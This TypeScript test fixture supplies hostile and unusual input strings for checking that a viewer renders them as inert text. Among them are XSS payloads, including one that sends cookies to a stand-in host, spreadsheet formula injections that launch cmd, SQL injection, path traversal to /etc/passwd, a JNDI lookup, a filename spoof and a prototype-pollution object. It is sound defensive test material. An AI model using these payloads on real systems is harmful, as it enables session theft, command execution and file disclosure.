/**
 * What attackers type into names, titles and agents, and what plain users do: values that a viewer must show, search
 * and export as the text they are. Nothing here works against anything; it only looks the part.
 */

export const markup = '<img src=x onerror="alert(document.domain)">'
export const script = '</td></tr><script>fetch("https://198.51.100.66/"+document.cookie)</script>'
export const svgLink = '<svg><a xlink:href="javascript:alert(1)"><text>open</text></a></svg>'

/** Cells a spreadsheet would run: `= + - @`, tab and carriage return in front. */
export const formulas = [
  "=cmd|' /C calc'!A0",
  '+HYPERLINK("https://198.51.100.66/?q="&A1,"details")',
  "-2+3+cmd|' /C notepad'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
] as const

/** Right-to-left text, and an override (U+202E) that makes `exe.fdp` read as a PDF. */
export const rightToLeft = 'تقرير الأمان — דוח אבטחה'
export const override = 'invoice_\u202Efdp.exe'
export const emoji = '🧑🏽‍💻 shipped 🚀 (🇪🇺, ✅ ×3)'
export const controls = 'bell\u0007 null\u0000 escape\u001B[31mred\u001B[0m backspace\u0008 del\u007F'
export const combining = 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚a̴̵̞̻̩l̷̬g̛̖o̶͓'
export const sqlLike = "Robert'); DROP TABLE event;--"
export const pathLike = '../../../../etc/passwd%00.png'
// biome-ignore lint/suspicious/noTemplateCurlyInString: it has to look like a template
export const templateLike = '{{constructor.constructor("return process")()}} ${jndi:ldap://198.51.100.66/a}'
export const fullWidth = 'ａｄｍｉｎ＠ｅｘａｍｐｌｅ．ｃｏｍ'
export const twoLines = 'first line\r\nsecond line; with "quotes", commas\tand a tab'

/** A very long text without line ends, `length` UTF-16 code units. */
export function longText(length: number): string {
  const sentence = 'The worker kept retrying the same migration and wrote this line again. '
  return sentence.repeat(Math.ceil(length / sentence.length)).slice(0, length)
}

/** An object whose keys are names of JavaScript's own machinery; they must stay data. */
export function machineryKeys(): object {
  return JSON.parse(
    '{"__proto__":{"isAdmin":true},"constructor":{"name":"Object"},"toString":"not a function","":"empty key"}',
  )
}
